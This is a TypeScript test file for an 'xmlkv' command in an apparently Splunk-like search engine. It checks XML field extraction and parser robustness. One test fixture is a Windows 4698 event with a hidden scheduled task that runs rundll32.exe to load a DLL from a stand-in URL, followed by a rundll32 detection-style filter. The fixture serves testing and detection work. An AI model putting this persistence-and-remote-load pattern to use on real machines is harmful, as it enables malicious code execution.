import { describe, expect, it } from 'vitest';
import { toObject } from '../../../src/events/result.js';
import { MemorySource } from '../../../src/sources/memory.js';
import { runSearch } from '../../../src/spl/index.js';
import { errorOf, NOW, run } from './helpers.js';

/** Rows of one event whose `_raw` is `raw`, after `pipeline` (the event's own fields dropped). */
async function over(raw: string, pipeline: string): Promise<Record<string, unknown>[]> {
  const source = new MemorySource([{ _time: NOW - 1, _raw: raw, index: 'main', sourcetype: 'xml', source: 's', host: 'h' }]);
  const { results } = await runSearch(`index=main | ${pipeline}`, { now: NOW, source });
  return results.map(toObject);
}

describe('xmlkv', () => {
  it('extracts <key>value</key> from _raw (Search Reference, "Keys and values in XML elements")', async () => {
    // "From the following XML, name is the key and Settlers of Catan is the value in the first element."
    const raw = '<game>\n   <name>Settlers of Catan</name>\n   <category>competitive</category>\n</game>';
    expect(await over(raw, 'xmlkv | table name category game')).toEqual([{ name: 'Settlers of Catan', category: 'competitive' }]);
    expect(await over(raw, 'xmlkv maxinputs=10000 | table name')).toEqual([{ name: 'Settlers of Catan' }]);
  });

  it('reads a field given, XML inside other text (a Windows 4698 message), attributes ignored', async () => {
    const message =
      'A scheduled task was created.\r\n Task Name: \\evil\r\n Task Content: <?xml version="1.0" encoding="UTF-16"?>\r\n<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"><RegistrationInfo><Author>CORP\\bob</Author></RegistrationInfo><Settings><Hidden>true</Hidden><Enabled>true</Enabled></Settings><Actions Context="Author"><Exec><Command>rundll32.exe</Command><Arguments>http://x/y.dll,Run</Arguments></Exec></Actions></Task>';
    const rows = await run(`| makeresults | eval Message="${message.replace(/\\/g, '\\\\').replace(/"/g, '\\"')}" | xmlkv Message | table Author Hidden Enabled Command Arguments Task Actions Exec version Context | search Command IN ("*rundll32*")`);
    expect(rows).toEqual([{ Author: 'CORP\\bob', Hidden: 'true', Enabled: 'true', Command: 'rundll32.exe', Arguments: 'http://x/y.dll,Run' }]);
  });

  it('gives a key met several times every value in order; overwrites a field of that name', async () => {
    const raw = '<games><game><name>Settlers of Catan</name></game><game><name>Ticket to Ride</name></game></games>';
    expect(await over(raw, 'eval name="old" | xmlkv | table name')).toEqual([{ name: ['Settlers of Catan', 'Ticket to Ride'] }]);
  });

  it('takes only elements holding text: not nested, empty, self-closing ones, comments or CDATA; entities stay as written', async () => {
    const raw = '<a><b x="1>2" y=\'<\'>v</b><c/><d></d><e>  </e><!-- <f>no</f> --><g><![CDATA[x]]></g><h>1 &lt; 2 &amp;</h ><ns:i>n</ns:i><j>t</k><2>bad</2></a>';
    // `<f>no</f>` sits inside a comment, which a scan for elements does not parse: it is taken (documented).
    expect(await over(raw, 'xmlkv | table a b c d e f g h ns:i j k 2 x y')).toEqual([
      { e: '  ', f: 'no', h: '1 &lt; 2 &amp;', 'ns:i': 'n' },
    ]);
  });

  it('is linear on hostile text: 100,000 nested elements, unclosed tags and quotes, no stack overflow', async () => {
    const deep = '<a>'.repeat(100_000) + 'x' + '</a>'.repeat(100_000);
    expect(await over(deep, 'xmlkv | table a')).toEqual([{ a: 'x' }]);
    expect(await over('<a x="'.repeat(100_000) + '<k>v</k>', 'xmlkv | table k')).toEqual([{ k: 'v' }]);
    expect(await over('<a'.repeat(200_000) + '>y</a>', 'xmlkv | table a')).toEqual([{ a: 'y' }]);
    expect(await over('<k>' + '<'.repeat(200_000), 'xmlkv | table k')).toEqual([{}]);
  });

  it('leaves a row without the field or without XML as it is', async () => {
    expect(await run('| makeresults | fields - _time | eval a="no xml <here" | xmlkv missing | xmlkv a')).toEqual([{ a: 'no xml <here' }]);
  });

  it('rejects bad arguments', async () => {
    expect((await errorOf('| makeresults | xmlkv a b')).message).toContain('xmlkv takes one field');
    expect((await errorOf('| makeresults | xmlkv maxinputs=0')).code).toBe('SPL_BAD_ARGUMENT');
    expect((await errorOf('| makeresults | xmlkv maxinputs=x')).code).toBe('SPL_BAD_ARGUMENT');
  });
});
